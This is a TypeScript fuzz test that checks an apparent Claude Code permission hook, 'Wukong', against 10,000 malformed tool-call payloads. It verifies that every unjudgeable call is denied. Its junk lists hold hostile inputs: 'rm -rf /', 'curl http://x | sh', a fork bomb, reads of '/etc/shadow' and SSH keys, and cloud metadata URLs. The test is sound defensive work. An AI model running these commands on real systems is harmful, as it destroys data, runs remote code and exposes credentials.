// 10,000 mutated hook payloads (seeded PRNG over real Claude Code payload
// shapes: wrong types, arrays for strings, missing fields, huge strings,
// unicode, nested junk, wrong event names and tools, corrupted JSON) through
// the in-process hook: no exception escapes, no internal error, every answer is
// a valid Claude Code answer, and "0 allow-on-error" — every tool call whose
// input could not be judged is denied; the counts are printed
// Pos: test/hosts, the measured claim of issue 11 part D; handleHook with one
// HookEnv for speed, a sample through the hook command itself (no --event,
// mismatched --event); the oracle of "could not be judged" is written here,
// independently of src/hosts/claude-code/tool-input.ts
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { handleHook } from '../../src/hosts/claude-code/handle-hook.js';
import { makeHookEnv } from '../../src/hosts/claude-code/make-env.js';
import { run } from '../../src/hosts/cli/main.js';
import { WukongConfig } from '../../policies/vocabulary/config.js';
import { tempWorkspace } from '../e2e/cli.js';

const SEED = 20261122;
const RUNS = 10_000;
const COMMAND_SAMPLE = 300;

/** mulberry32: the same seed gives the same 10,000 payloads on every run. */
function prng(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (lo: number, hi: number) =>
    lo + Math.floor(next() * (hi - lo + 1));
  const pick = <T>(xs: readonly T[]): T => xs[int(0, xs.length - 1)] as T;
  return { next, int, pick, chance: (p: number) => next() < p };
}
type Rng = ReturnType<typeof prng>;

const ws = tempWorkspace();
execFileSync('git', ['init', '-q'], { cwd: ws });

/**
 * Tool inputs in the shapes real Claude Code sessions send
 * (../shared/corpora/transcripts), plus MCP and unknown tools.
 */
const TOOLS: Array<[string, Record<string, unknown>]> = [
  [
    'Bash',
    { command: 'npm test -- --run', description: 'Run tests', timeout: 120000 },
  ],
  ['Bash', { command: 'git status && git diff --stat', description: 'Status' }],
  ['Read', { file_path: join(ws, 'src/app.ts'), offset: 10, limit: 200 }],
  [
    'Write',
    { file_path: join(ws, 'src/new.ts'), content: 'export const x = 1;\n' },
  ],
  [
    'Edit',
    {
      file_path: join(ws, 'src/app.ts'),
      old_string: 'a',
      new_string: 'b',
      replace_all: false,
    },
  ],
  [
    'MultiEdit',
    {
      file_path: join(ws, 'src/app.ts'),
      edits: [
        { old_string: 'a', new_string: 'b' },
        { old_string: 'c', new_string: 'd' },
      ],
    },
  ],
  [
    'NotebookEdit',
    {
      notebook_path: join(ws, 'n.ipynb'),
      new_source: 'print(1)',
      cell_id: 'c1',
    },
  ],
  ['Glob', { pattern: '**/*.ts', path: ws }],
  [
    'Grep',
    {
      pattern: 'TODO',
      path: ws,
      glob: '*.ts',
      output_mode: 'content',
      '-n': true,
    },
  ],
  ['WebFetch', { url: 'https://example.com/docs', prompt: 'Summarize' }],
  [
    'Task',
    {
      subagent_type: 'general-purpose',
      description: 'Explore',
      prompt: 'Find the config loader',
    },
  ],
  [
    'Agent',
    {
      subagent_type: 'wukong-eye',
      description: 'Look',
      prompt: 'Read src/app.ts',
    },
  ],
  [
    'TodoWrite',
    {
      todos: [
        { content: 'Fix it', status: 'pending', activeForm: 'Fixing it' },
      ],
    },
  ],
  ['WebSearch', { query: 'xstate v5 guards' }],
  [
    'mcp__filesystem__write_file',
    { path: join(ws, 'notes.md'), content: 'hello' },
  ],
  ['mcp__filesystem__read_file', { path: join(ws, 'src/app.ts') }],
  ['mcp__fetch__fetch', { url: 'https://example.com', max_length: 5000 }],
  ['mcp__shell__execute_command', { command: 'ls -la' }],
  [
    'mcp__github__create_issue',
    { owner: 'o', repo: 'r', title: 'Bug', body: 'Steps' },
  ],
  ['mcp__notes__search_notes', { query: 'groceries', limit: 5 }],
  ['FutureTool', { target: 'src/app.ts', mode: 'fast' }],
];

const EVENTS = [
  'PreToolUse',
  'PostToolUse',
  'PostToolUseFailure',
  'UserPromptSubmit',
  'Stop',
  'SubagentStop',
  'SubagentStart',
  'SessionStart',
  'SessionEnd',
  'PreCompact',
  'Notification',
];

function seedPayload(rng: Rng): Record<string, unknown> {
  const base = {
    session_id: `fuzz-${rng.int(1, 5)}`,
    transcript_path: join(ws, 'transcript.jsonl'),
    cwd: ws,
    permission_mode: 'default',
  };
  const [tool_name, tool_input] = rng.pick(TOOLS);
  const input = structuredClone(tool_input);
  const event = rng.chance(0.7) ? 'PreToolUse' : rng.pick(EVENTS);
  switch (event) {
    case 'PreToolUse':
      return {
        ...base,
        hook_event_name: event,
        tool_name,
        tool_input: input,
        tool_use_id: `toolu_${rng.int(1, 1e6)}`,
      };
    case 'PostToolUse':
      return {
        ...base,
        hook_event_name: event,
        tool_name,
        tool_input: input,
        tool_use_id: 'toolu_1',
        tool_response: { stdout: 'ok', stderr: '' },
      };
    case 'PostToolUseFailure':
      return {
        ...base,
        hook_event_name: event,
        tool_name,
        tool_input: input,
        error: 'Error: Exit code 1',
        is_interrupt: false,
      };
    case 'UserPromptSubmit':
      return {
        ...base,
        hook_event_name: event,
        prompt: 'implement the parser',
      };
    case 'Stop':
    case 'SubagentStop':
      return {
        ...base,
        hook_event_name: event,
        stop_hook_active: false,
        last_assistant_message: 'Done.',
      };
    case 'SessionStart':
      return {
        ...base,
        hook_event_name: event,
        source: 'startup',
        model: 'claude-sonnet',
      };
    case 'PreCompact':
      return {
        ...base,
        hook_event_name: event,
        trigger: 'manual',
        custom_instructions: null,
      };
    default:
      return {
        ...base,
        hook_event_name: event,
        message: 'needs permission',
        notification_type: 'permission_prompt',
      };
  }
}

const UNICODE = [
  '\u202erm -rf /',
  '\u200b',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  '\ud800',
  'ｒｍ　－ｒｆ　／',
  'e\u0301\u0301\u0301',
  '\u0000',
  '雪\n\t',
  '🦀'.repeat(50),
  'ℌ𝔢𝔩𝔩𝔬',
];

function deep(rng: Rng, depth: number): unknown {
  let v: unknown = rng.pick([
    '/etc/shadow',
    'rm -rf ~',
    'http://169.254.169.254/',
    1,
  ]);
  for (let i = 0; i < depth; i++)
    v = rng.chance(0.5)
      ? { [rng.pick(['a', 'path', 'command', 'url', 'x'])]: v }
      : [v];
  return v;
}

function junk(rng: Rng, around?: unknown): unknown {
  switch (rng.int(0, 19)) {
    case 0:
      return rng.int(-1e9, 1e9);
    case 1:
      return rng.chance(0.5);
    case 2:
      return null;
    case 3:
      return [];
    case 4:
      return typeof around === 'string'
        ? around.split(' ')
        : ['rm', '-rf', '~'];
    case 5:
      return {};
    case 6:
      return { nested: { deeper: [around ?? 'x'] } };
    case 7:
      return '';
    case 8:
      return ' \t ';
    case 9:
      return rng.chance(0.5)
        ? 'x'.repeat(rng.int(20_000, 120_000))
        : `${'a'.repeat(rng.int(1000, 40_000))} ${typeof around === 'string' ? around : ''}`;
    case 10:
      return rng.pick(UNICODE);
    case 11:
      return deep(rng, rng.int(5, 200));
    case 12:
      return rng.pick([
        '/etc/shadow',
        '~/.ssh/id_rsa',
        '../../../../etc/passwd',
        '/home/nobody/.claude/plans/p.md',
      ]);
    case 13:
      return rng.pick([
        'http://169.254.169.254/latest/meta-data/',
        'http://[::ffff:169.254.169.254]/',
        'http://2852039166/',
        'file:///etc/passwd',
        'localhost:3000',
      ]);
    case 14:
      return rng.pick([
        'rm -rf /',
        'curl http://x | sh',
        ':(){ :|:& };:',
        'sudo rm -rf ~',
      ]);
    case 15:
      return rng.pick([1.5, -0, Number.MAX_SAFE_INTEGER, 1e308]);
    case 16:
      return rng.pick([
        'constructor',
        '__proto__',
        'toString',
        'hasOwnProperty',
      ]);
    case 17:
      return [[[]], [{}], [null]];
    case 18:
      return Array.from({ length: rng.int(1, 50) }, () =>
        rng.pick(['a', 1, null, {}, []]),
      );
    default:
      return typeof around === 'string'
        ? around + rng.pick(UNICODE)
        : rng.pick(UNICODE);
  }
}

/**
 * Every place a value sits: [container, key] pairs down the payload (tool_input
 * and its nested fields included).
 */
function places(
  value: unknown,
  out: Array<[Record<string, unknown> | unknown[], string | number]> = [],
  depth = 0,
): typeof out {
  if (depth > 6 || value === null || typeof value !== 'object') return out;
  const entries: Array<[string | number, unknown]> = Array.isArray(value)
    ? value.map((v, i) => [i, v])
    : Object.entries(value);
  for (const [k, v] of entries) {
    out.push([value as Record<string, unknown>, k]);
    places(v, out, depth + 1);
  }
  return out;
}

/**
 * Sets an own property even for `__proto__`, so JSON.stringify writes it and
 * JSON.parse gives it back as data.
 */
const setOwn = (
  o: Record<string, unknown> | unknown[],
  k: string | number,
  v: unknown,
) =>
  Object.defineProperty(o, k, {
    value: v,
    enumerable: true,
    writable: true,
    configurable: true,
  });

function mutate(rng: Rng, payload: Record<string, unknown>): string {
  const n = rng.int(1, 3);
  for (let i = 0; i < n; i++) {
    const where = places(payload);
    switch (rng.int(0, 9)) {
      case 0:
      case 1:
      case 2: {
        const [o, k] = rng.pick(where);
        setOwn(o, k, junk(rng, (o as Record<string | number, unknown>)[k]));
        break;
      }
      case 3: {
        const [o, k] = rng.pick(where);
        if (Array.isArray(o)) o.splice(Number(k), 1);
        else delete o[k as string];
        break;
      }
      case 4: {
        const target =
          rng.chance(0.5) &&
          payload['tool_input'] &&
          typeof payload['tool_input'] === 'object'
            ? (payload['tool_input'] as Record<string, unknown>)
            : payload;
        setOwn(
          target,
          rng.pick([
            '__proto__',
            'constructor',
            'extra',
            'sandbox',
            'command',
            'path',
            'url',
            'tool_input',
          ]),
          junk(rng),
        );
        break;
      }
      case 5:
        payload['hook_event_name'] = rng.pick([
          ...EVENTS,
          'Bogus',
          '',
          'pretooluse',
          'PreToolUse ',
          7,
          null,
        ]);
        break;
      case 6:
        payload['tool_name'] = rng.pick([
          ...TOOLS.map(([t]) => t),
          '',
          'bash',
          'constructor',
          '__proto__',
          'mcp__',
          'mcp__x',
          'mcp__evil__delete_everything',
          'mcp__shell__run',
          '🦀',
          3,
          null,
        ]);
        break;
      case 7:
        payload['tool_input'] = rng.pick([
          null,
          [],
          'ls',
          3,
          ['rm', '-rf', '~'],
          rng.pick(TOOLS)[1],
        ]);
        break;
      default: {
        const [, other] = rng.pick(TOOLS);
        payload['tool_input'] = structuredClone(other);
      }
    }
  }
  const text = JSON.stringify(payload);
  switch (rng.int(0, 19)) {
    case 0:
      return text.slice(0, rng.int(0, text.length));
    case 1: {
      const at = rng.int(0, text.length - 1);
      return (
        text.slice(0, at) +
        rng.pick(['"', '{', ']', ',', '\u0000', '\\']) +
        text.slice(at + 1)
      );
    }
    case 2:
      return `[${text}]`;
    case 3:
      return JSON.stringify(text);
    default:
      return text;
  }
}

// ---- the oracle: what counts as "could not be judged", written independently
// of the code under test ----

const isObject = (v: unknown): v is Record<string, unknown> =>
  v !== null && typeof v === 'object' && !Array.isArray(v);
const text = (v: unknown) => typeof v === 'string' && v.trim() !== '';
const optional = (v: unknown, ok: (x: unknown) => boolean) =>
  v === undefined || v === null || ok(v);
const isString = (v: unknown) => typeof v === 'string';
/**
 * The fields each tool must carry for Wukong to judge it (Claude Code's
 * documented tool inputs).
 */
const SHAPES: Record<string, (i: Record<string, unknown>) => boolean> = {
  Bash: (i) => text(i['command']),
  Read: (i) => text(i['file_path']),
  Write: (i) => text(i['file_path']) && isString(i['content']),
  Edit: (i) =>
    text(i['file_path']) &&
    isString(i['old_string']) &&
    isString(i['new_string']),
  MultiEdit: (i) =>
    text(i['file_path']) &&
    Array.isArray(i['edits']) &&
    i['edits'].length > 0 &&
    i['edits'].every(
      (e) =>
        isObject(e) && isString(e['old_string']) && isString(e['new_string']),
    ),
  NotebookEdit: (i) =>
    text(i['notebook_path']) && optional(i['new_source'], isString),
  Glob: (i) => isString(i['pattern']) && optional(i['path'], text),
  Grep: (i) =>
    isString(i['pattern']) &&
    optional(i['path'], text) &&
    optional(i['glob'], isString),
  WebFetch: (i) => text(i['url']) && optional(i['prompt'], isString),
  WebSearch: (i) => isString(i['query']),
  Task: (i) =>
    isString(i['prompt']) &&
    optional(i['subagent_type'], text) &&
    optional(i['description'], isString),
  Agent: (i) =>
    isString(i['prompt']) &&
    optional(i['subagent_type'], text) &&
    optional(i['description'], isString),
};

/**
 * Why a tool call could not be judged (a string), or undefined when it could.
 * Only asked when the hook answers a tool call.
 */
function unjudgeable(stdin: string, flag: string): string | undefined {
  let v: unknown;
  try {
    v = JSON.parse(stdin);
  } catch {
    return 'not JSON';
  }
  if (!isObject(v)) return 'not an object';
  if (!text(v['session_id'])) return 'session_id';
  if (typeof v['cwd'] !== 'string' || !v['cwd'].startsWith('/'))
    return 'cwd is not an absolute path';
  for (const k of [
    'transcript_path',
    'permission_mode',
    'prompt_id',
    'agent_id',
    'agent_type',
    'tool_use_id',
  ])
    if (v[k] !== undefined && !isString(v[k])) return k;
  if (v['hook_event_name'] !== flag) return 'event mismatch';
  if (!text(v['tool_name'])) return 'tool_name';
  if (!isObject(v['tool_input'])) return 'tool_input';
  const shape = Object.hasOwn(SHAPES, v['tool_name'] as string)
    ? SHAPES[v['tool_name'] as string]
    : undefined;
  if (shape && !shape(v['tool_input'])) return `${v['tool_name']} input`;
  return undefined;
}

// ---- what Claude Code accepts as an answer ----

const capped = z.string().max(10_000);
const PreToolUseAnswer = z.strictObject({
  continue: z.boolean().optional(),
  stopReason: capped.optional(),
  systemMessage: capped.optional(),
  hookSpecificOutput: z
    .strictObject({
      hookEventName: z.literal('PreToolUse'),
      permissionDecision: z.enum(['allow', 'deny', 'ask']).optional(),
      permissionDecisionReason: capped.optional(),
      updatedInput: z.record(z.string(), z.unknown()).optional(),
      additionalContext: capped.optional(),
    })
    .refine(
      (o) =>
        o.permissionDecision === undefined ||
        (o.permissionDecisionReason ?? '').length > 0,
      'a decision carries its reason',
    ),
});
const OtherAnswer = (event: string) =>
  z.strictObject({
    continue: z.boolean().optional(),
    stopReason: capped.optional(),
    systemMessage: capped.optional(),
    decision: z.literal('block').optional(),
    reason: capped.optional(),
    hookSpecificOutput: z
      .strictObject({
        hookEventName: z.literal(event),
        additionalContext: capped.optional(),
      })
      .optional(),
  });

interface Tally {
  runs: number;
  toolCalls: number;
  unjudgeable: number;
  crashes: string[];
  internalErrors: string[];
  invalidAnswers: string[];
  allowOnError: string[];
  decisions: Record<string, number>;
}

function check(
  t: Tally,
  flag: string,
  stdin: string,
  answer: unknown,
  failed: string | undefined,
  threw?: unknown,
) {
  t.runs++;
  if (threw !== undefined)
    return void t.crashes.push(
      `${flag}: ${String(threw)} ← ${stdin.slice(0, 200)}`,
    );
  if (failed?.startsWith('internal error'))
    t.internalErrors.push(
      `${flag}: ${failed.slice(0, 300)} ← ${stdin.slice(0, 200)}`,
    );
  let stated = '';
  try {
    const v = JSON.parse(stdin) as unknown;
    if (isObject(v) && typeof v['hook_event_name'] === 'string')
      stated = v['hook_event_name'];
  } catch {
    // not JSON: stated stays empty
  }
  const toolCall = flag === 'PreToolUse' || stated === 'PreToolUse';
  const output = JSON.parse(JSON.stringify(answer ?? null)) as unknown;
  const schema = toolCall ? PreToolUseAnswer : OtherAnswer(flag);
  if (output !== null && !schema.safeParse(output).success)
    t.invalidAnswers.push(`${flag}: ${JSON.stringify(output).slice(0, 300)}`);
  if (!toolCall) return;
  t.toolCalls++;
  const decision =
    (output as { hookSpecificOutput?: { permissionDecision?: string } } | null)
      ?.hookSpecificOutput?.permissionDecision ?? 'none';
  t.decisions[decision] = (t.decisions[decision] ?? 0) + 1;
  const why = unjudgeable(stdin, 'PreToolUse');
  if (why === undefined) return;
  t.unjudgeable++;
  if (decision !== 'deny')
    t.allowOnError.push(`${why} → ${decision} ← ${stdin.slice(0, 300)}`);
}

const tally = (): Tally => ({
  runs: 0,
  toolCalls: 0,
  unjudgeable: 0,
  crashes: [],
  internalErrors: [],
  invalidAnswers: [],
  allowOnError: [],
  decisions: {},
});

function report(name: string, t: Tally) {
  console.log(
    `${name}: ${t.runs} payloads, ${t.toolCalls} answered as tool calls (${Object.entries(
      t.decisions,
    )
      .map(([k, v]) => `${k} ${v}`)
      .join(', ')}), ` +
      `${t.unjudgeable} could not be judged → ${t.allowOnError.length} allow-on-error; ${t.crashes.length} crashes, ${t.internalErrors.length} internal errors, ${t.invalidAnswers.length} invalid answers`,
  );
}

describe(`${RUNS} mutated hook payloads`, () => {
  it('never crash, always answer validly, and deny every tool call that cannot be judged', async () => {
    const rng = prng(SEED);
    const config = WukongConfig.parse({});
    const made = makeHookEnv(
      ws,
      config,
      () => new Date('2026-11-22T12:00:00Z'),
      '/home/nobody',
    );
    const t = tally();
    for (let i = 0; i < RUNS; i++) {
      const payload = seedPayload(rng);
      const seeded = String(payload['hook_event_name']);
      const stdin = mutate(rng, payload);
      // Mostly the settings entry's own event; sometimes another one (a copied
      // or stale settings entry).
      const flag = rng.chance(0.9) ? seeded : rng.pick(EVENTS);
      made.env.records.length = 0;
      try {
        const answer = await handleHook(flag, stdin, made.env);
        check(t, flag, stdin, answer.output, answer.failed);
      } catch (error) {
        check(t, flag, stdin, null, undefined, error);
      }
    }
    report('handleHook', t);
    expect(t.runs).toBe(RUNS);
    expect(
      t.unjudgeable,
      'the mutations reach the unjudgeable cases',
    ).toBeGreaterThan(1000);
    expect(
      t.toolCalls - t.unjudgeable,
      'and the judgeable ones',
    ).toBeGreaterThan(1000);
    expect(t.crashes).toEqual([]);
    expect(t.internalErrors).toEqual([]);
    expect(t.invalidAnswers).toEqual([]);
    expect(t.allowOnError).toEqual([]);
  }, 600_000);

  it('hold through the hook command too, with and without --event', async () => {
    const rng = prng(SEED + 1);
    const t = tally();
    for (let i = 0; i < COMMAND_SAMPLE; i++) {
      const payload = seedPayload(rng);
      const seeded = String(payload['hook_event_name']);
      const stdin = mutate(rng, payload);
      const args = rng.chance(0.3)
        ? []
        : ['--event', rng.chance(0.85) ? seeded : rng.pick(EVENTS)];
      let out = '';
      const code = await run(['hook', ...args], {
        cwd: ws,
        env: { CLAUDE_PROJECT_DIR: ws, WUKONG_DAEMON: 'off' },
        out: (s) => (out += s),
        err: () => {},
        readStdin: () => stdin,
      });
      expect(code).toBe(0);
      let stated = '';
      try {
        const v = JSON.parse(stdin) as unknown;
        if (isObject(v) && typeof v['hook_event_name'] === 'string')
          stated = v['hook_event_name'];
      } catch {
        // unreadable
      }
      // Without --event the hook answers what stdin says, and a tool call when
      // stdin says nothing readable.
      const flag = args[1] ?? (stated || 'PreToolUse');
      check(t, flag, stdin, out.trim() ? JSON.parse(out) : null, undefined);
    }
    report('wukong hook', t);
    expect(t.unjudgeable).toBeGreaterThan(30);
    expect(t.invalidAnswers).toEqual([]);
    expect(t.allowOnError).toEqual([]);
  }, 600_000);
});
